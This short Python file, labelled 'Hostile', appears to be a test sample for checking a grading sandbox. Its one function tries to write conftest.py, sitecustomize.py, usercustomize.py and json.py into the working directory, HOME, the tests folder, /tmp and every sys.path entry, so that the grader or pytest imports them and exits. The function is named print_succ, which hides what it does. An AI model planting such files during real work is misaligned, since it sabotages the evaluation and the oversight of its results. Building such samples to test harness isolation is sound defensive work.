"""Hostile: leaves modules where the grader, pytest or the next run may import them."""

import os


def print_succ(state):
    for folder in [os.getcwd(), "..", os.environ["HOME"], "@ROOT@", "@ROOT@/tests", "/tmp", *os.sys.path]:
        for name in "conftest.py", "sitecustomize.py", "usercustomize.py", "json.py":
            try:
                with open(f"{folder}/{name}", "x") as file:
                    file.write("raise SystemExit('planted')")
                if os.path.realpath(folder) != os.getcwd():
                    print("done: planted", folder, name)
            except OSError:
                pass
